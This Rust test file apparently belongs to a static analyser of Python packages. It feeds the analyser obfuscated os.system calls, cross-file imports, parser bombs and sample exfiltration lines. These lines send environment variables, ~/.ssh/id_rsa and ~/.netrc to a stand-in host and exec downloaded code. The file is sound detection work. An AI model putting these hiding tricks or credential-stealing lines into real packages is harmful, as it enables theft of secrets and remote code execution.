//! What Python code does, through the disguises it comes in: each case is a module, and the capability that it must
//! show when it is imported.

#![allow(clippy::unwrap_used, reason = "a test's own helpers")]

use proptest::prelude::*;
use vetch_behaviour::{Analysis, PythonRelease};
use vetch_model::capability::CapabilityId;
use vetch_model::facts::{PackageFacts, PythonForm, UnreadReason};

fn analyse(files: &[(&str, &str)]) -> PackageFacts {
    let listing: Vec<(String, u64)> =
        files.iter().map(|(path, text)| ((*path).to_owned(), text.len() as u64)).collect();
    let release = PythonRelease {
        form: PythonForm::Sdist,
        build_backend: Some("backend:hooks".to_owned()),
        backend_path: vec!["./tools".to_owned()],
        build_hooks: Vec::new(),
        build_commands: Vec::new(),
    };
    let mut analysis = Analysis::python(release, &listing);
    for (path, text) in files {
        analysis.file(path, text.as_bytes());
    }
    for path in analysis.needs() {
        let text = files.iter().find(|(name, _)| *name == path).unwrap().1;
        analysis.file(&path, text.as_bytes());
    }
    analysis.finish()
}

/// As workers have it.
fn on_big_stack<T: Send>(body: impl FnOnce() -> T + Send) -> T {
    std::thread::scope(|scope| {
        let builder = std::thread::Builder::new().stack_size(vetch_syntax::limits::STACK_BYTES);
        builder.spawn_scoped(scope, body).unwrap().join().unwrap()
    })
}

/// `trigger: id(resource)`, sorted.
fn profile(facts: &PackageFacts) -> Vec<String> {
    let mut all: Vec<String> =
        facts.profile.capabilities.iter().map(|one| format!("{}: {}", one.trigger, one.label())).collect();
    all.sort();
    all.dedup();
    all
}

#[track_caller]
fn shows(code: &str, expected: &str) {
    let facts = on_big_stack(|| analyse(&[("p/__init__.py", code)]));
    let profile = profile(&facts);
    assert!(profile.iter().any(|one| one == expected), "{code}\n{expected} in {profile:#?}");
}

#[test]
fn values_are_evaluated_as_python_does() {
    for value in [
        "'who' + 'ami'",
        "'imaohw'[::-1]",
        "'xwhoamix'[1:-1]",
        "'%s%s' % ('who', 'ami')",
        "'{}{b}'.format('who', b='ami')",
        "f\"{'who'}ami\"",
        "''.join(['who', 'ami'])",
        "''.join(reversed('imaohw'))",
        "''.join(map(chr, [119, 104, 111, 97, 109, 105]))",
        "''.join(chr(c ^ 1) for c in b'vin`lh')",
        "bytes([119, 104, 111, 97, 109, 105]).decode()",
        "bytes.fromhex('77686f616d69').decode('utf-8')",
        "'WHOAMI'.lower()",
        "'whoxmi'.replace('x', 'a')",
        "'a whoami b'.split()[1]",
        "{'k': 'whoami'}['k']",
        "{'k': 'whoami'}.get('k')",
        "dict(k='whoami')['k']",
        "(lambda x, y='ami': x + y)('who')",
        "(lambda *a, **k: a[0] + k['y'])('who', y='ami')",
        "[w for w in ('x', 'whoami') if w != 'x'][0]",
        "__import__('base64').b64decode('d2hvYW1p').decode()",
        "getattr(__import__('base64'), 'b64' + 'decode')(b'd2hvYW1p')",
        "__import__('codecs').decode('jubnzv', 'rot13')",
        "__import__('base64').b32decode('O5UG6YLNNE======')",
        "globals()['NAME']",
        "('whoami', 'ls')[0] if True else 'x'",
        "str(b'whoami', 'utf-8')",
        "'who' 'ami'",
    ] {
        shows(&format!("import os\nNAME = 'whoami'\nos.system({value})\n"), "import: process.spawn(whoami)");
    }
}

#[test]
fn names_are_followed() {
    for code in [
        "import os as o\no.system('whoami')",
        "from os import system as s\ns('whoami')",
        "from os import *\nsystem('whoami')",
        "import subprocess\nrun = subprocess.run\nrun(['whoami'])",
        "__import__('os').system('whoami')",
        "import importlib\nimportlib.import_module('os').system('whoami')",
        "getattr(__import__('builtins'), 'exec')('import os; os.system(\"whoami\")')",
        "__builtins__.eval('__import__(\"os\").system(\"whoami\")')",
        "import os\nclass A:\n    def run(self):\n        os.system('whoami')\nclass B(A):\n    pass\nB().run()",
        "import os\nclass A:\n    cmd = 'whoami'\n    def __init__(self, f):\n        f(self.cmd)\nA(os.system)",
        "import os\ndef outer():\n    x = 'whoami'\n    def inner():\n        os.system(x)\n    return inner\nouter()()",
        "import os\ndef f():\n    global g\n    g = 'whoami'\nf()\nos.system(g)",
        "import os, threading\nthreading.Thread(target=os.system, args=('whoami',)).start()",
        "import os\ntry:\n    import nothing\nexcept ImportError:\n    os.system('whoami')",
        "import os\nwith open('x') as f:\n    os.system('whoami')",
        "import os\nfor c in ['ls', 'whoami']:\n    os.system(c)",
        "import os, functools\nfunctools.partial(os.system, 'whoami')()",
        "import os\nasync def f():\n    os.system('whoami')\nimport asyncio\nasyncio.run(f())",
        "import os\nmatch 1:\n    case 1:\n        os.system('whoami')",
        "import os\nif (n := 'whoami'):\n    os.system(n)",
        "exec('def f():\\n    import os\\n    os.system(\"whoami\")')\nf()",
    ] {
        shows(code, "import: process.spawn(whoami)");
    }
}

#[test]
fn the_files_of_a_package_are_one_program() {
    let files = [
        ("setup.py", "import os\nfrom build_tools import go\ngo()\n"),
        ("tools/backend.py", "import os\ndef build_wheel(*a):\n    os.system('ninja')\n"),
        ("build_tools.py", "import os\ndef go():\n    os.system('make')\n"),
        ("p/__init__.py", "from . import a\nfrom .sub import b\na.f(b.NAME)\n"),
        ("p/a.py", "import os\ndef f(name):\n    os.system(name)\n"),
        ("p/sub/__init__.py", ""),
        ("p/sub/b.py", "NAME = 'whoami'\n"),
        ("p/__main__.py", "import os\nif __name__ == '__main__':\n    os.system('id')\n"),
        ("p/tool.py", "import os\nif __name__ == '__main__':\n    os.system('never')\n"),
        ("tests/test_p.py", "import os\nos.system('pytest')\n"),
        ("x.pth", "# nothing\nimport os; os.system('helper')\n"),
    ];
    let facts = on_big_stack(|| analyse(&files));
    let profile = profile(&facts);
    for expected in [
        "install: process.spawn(make)",
        "install: process.spawn(ninja)",
        "import: process.spawn(whoami)",
        "import: process.spawn(helper)",
        "bin: process.spawn(id)",
        "test: process.spawn(pytest)",
    ] {
        assert!(profile.iter().any(|one| one == expected), "{expected} in {profile:#?}");
    }
    assert!(!profile.iter().any(|one| one.contains("never")), "{profile:#?}");
}

#[test]
fn what_is_given_away_is_followed() {
    for (code, source, sink) in [
        (
            "import requests, os\nrequests.post('https://x.invalid', json=dict(os.environ))",
            CapabilityId::EnvEnumerate,
            CapabilityId::NetConnect,
        ),
        (
            "import os, urllib.request as u\nu.urlopen('http://x.invalid', data=open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())",
            CapabilityId::FsRead,
            CapabilityId::NetConnect,
        ),
        (
            "import os, socket\ns = socket.socket()\ns.connect(('x.invalid', 1))\ns.send(open(os.path.expanduser('~/.netrc')).read().encode())",
            CapabilityId::FsRead,
            CapabilityId::NetConnect,
        ),
        (
            "import requests\nexec(requests.get('http://x.invalid').text)",
            CapabilityId::NetConnect,
            CapabilityId::CodeEval,
        ),
        (
            "import requests, os\nos.system(requests.get('http://x.invalid').json()['c'])",
            CapabilityId::NetConnect,
            CapabilityId::ProcessSpawn,
        ),
        (
            "import socket, platform\nsocket.gethostbyname(platform.node() + '.x.invalid')",
            CapabilityId::SystemInfo,
            CapabilityId::NetDns,
        ),
    ] {
        let facts = on_big_stack(|| analyse(&[("p/__init__.py", code)]));
        let found = facts.profile.flows.iter().any(|flow| flow.source.id == source && flow.sink.id == sink);
        assert!(found, "{code}: {:#?}", profile(&facts));
    }
}

#[test]
fn python_2_is_read_as_far_as_it_can_be_and_told_of() {
    let facts = on_big_stack(|| analyse(&[("p/__init__.py", "print 'hello'\nimport os\nos.system('whoami')\n")]));
    assert!(profile(&facts).contains(&"import: process.spawn(whoami)".to_owned()), "{:#?}", profile(&facts));
    assert_eq!(facts.unread[0].reason, UnreadReason::SyntaxError);
}

#[test]
fn bombs_end_and_are_told_of() {
    let deep = [
        format!("{}1{}", "(".repeat(100_000), ")".repeat(100_000)),
        "- ".repeat(100_000) + "1",
        "not ".repeat(100_000) + "1",
        "lambda: ".repeat(50_000) + "1",
        "x".to_owned() + &".y".repeat(100_000),
        "x".to_owned() + &"()".repeat(100_000),
        "1".to_owned() + &"+1".repeat(100_000),
        "1 if 1 else ".repeat(50_000) + "1",
        (0..2_000).map(|depth| format!("{}if 1:\n", " ".repeat(depth))).collect::<String>()
            + &" ".repeat(2_000)
            + "pass",
        "f'{".repeat(5_000),
        "\"".repeat(100_001),
    ];
    for code in &deep {
        let facts = on_big_stack(|| analyse(&[("p/__init__.py", code)]));
        let head: String = code.chars().take(20).collect();
        assert!(facts.unread.iter().any(|unread| unread.trigger.is_reached()) || facts.parsed_files == 1, "{head}");
    }
    for code in [
        "x = 'a'\nwhile True:\n    x = x + x\n",
        "x = 'a' * 10 ** 12\nexec(x)\n",
        "x = [0] * 10 ** 12\n",
        "x = b'a' * (1 << 40)\n",
        "def f(n):\n    return f(n + 1)\nf(0)\n",
        "x = 'a'\nfor i in range(10 ** 9):\n    x = x.replace('a', 'aa')\n",
        "exec('exec(' * 1000)\n",
        "a = 'exec(a)'\nexec(a)\n",
        "pow(3, 10 ** 15, 10 ** 14 + 31)\n",
        "x = {}\nfor i in range(10 ** 7):\n    x[i] = i\n",
        "import p\nfrom p import *\nfrom . import *\n",
        "x = []\nx.append(x)\nprint(x)\nstr(x)\nrepr(x)\nimport requests\nrequests.post('http://x.invalid', x)\n",
        "1 << 10 ** 9\n",
        "'%(a)s' % {'a': 1}\n'{0.__class__}'.format(1)\n'{'.format()\n'%' % ()\n'}'.format()\n",
        "[][-1]\n''[5]\n'abc'[::0]\n'abc'['x':]\n(1).to_bytes(99, 'big')\n[].pop(-5)\n[1].pop(-5)\n[1, 2].pop(9)\n",
        "chr(-1)\nchr(10 ** 9)\nord('')\nint('zz', 99)\nbytes(-1)\nrange(0, 5, 0)\n",
    ] {
        on_big_stack(|| analyse(&[("p/__init__.py", code)]));
    }
}

/// Programs that the mutations begin with.
const SEEDS: &[&str] = &[
    "import os, base64\nclass A(B, metaclass=C):\n    x: int = 1\n    @property\n    def f(self, *a, k=1, **kw):\n        return {**kw, 'a': [*a]}\n",
    "try:\n    with open('x') as f, g() as (h, i):\n        exec(f.read())\nexcept (A, B) as e:\n    raise X from e\nelse:\n    pass\nfinally:\n    del a[1:2, ::3]\n",
    "async def f():\n    async for x in y:\n        await z\n    return [i async for i in x if i]\nlambda a, /, b, *, c: (yield)\n",
    "match x:\n    case {'a': [1, *r], **k} | P(1, y=2) as q if q:\n        pass\nf\"{x!r:>{w}} {y=}\"\nb'\\xff' rb'\\d' '\\N{BULLET}'\n",
    "for i, (j, *k) in enumerate(zip(a, b)):\n    global t\n    t = i if j else k\n    while not t:\n        break\n    else:\n        continue\nx = y = z\nx += 1\n",
];

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]
    #[test]
    fn damaged_programs_do_no_harm(
        seed in 0..SEEDS.len(),
        cuts in proptest::collection::vec((any::<prop::sample::Index>(), "[ -~\n]{0,6}"), 0..6),
    ) {
        let mut text = SEEDS[seed].to_owned();
        for (at, insert) in cuts {
            let at = text.floor_char_boundary(at.index(text.len().max(1)));
            let end = text.floor_char_boundary((at + insert.len()).min(text.len()));
            text.replace_range(at..end, &insert);
        }
        on_big_stack(|| analyse(&[("setup.py", &text), ("p/__init__.py", &text)]));
    }
}
